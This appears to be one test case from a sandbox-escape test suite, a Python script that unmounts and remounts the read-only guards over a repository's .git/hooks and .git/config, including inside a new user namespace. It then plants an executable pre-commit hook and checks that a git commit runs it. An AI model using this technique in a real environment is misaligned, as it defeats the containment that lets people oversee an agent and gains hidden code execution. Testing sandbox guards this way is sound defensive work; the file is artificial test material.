"""
id: c-unmount-guards
class: c
title: unmount what covers the hooks and the config, then write
source: guards that are mounts
"""
from esc import *


def attack(x):
    def strip():
        for path in (".git/hooks", ".git/config", ".git", ""):
            for flags in (0, 2, 8):
                libc.umount2(x.p(path).rstrip("/").encode(), flags)
        for path in (".git/hooks", ".git/config"):
            libc.mount(None, x.p(path).encode(), None, MS_BIND | MS_REMOUNT, None)
        x.put(x.p(".git/hooks/pre-commit"), x.script, 0o755)
        x.git_config(x.p(".git/config"))
    strip()
    in_userns(strip, CLONE_NEWNS)


def verdict(x):
    x.sh("git", "status")
    x.sh("git", "commit", "--allow-empty", "-m", "work")
    return x.executed()


main(globals())
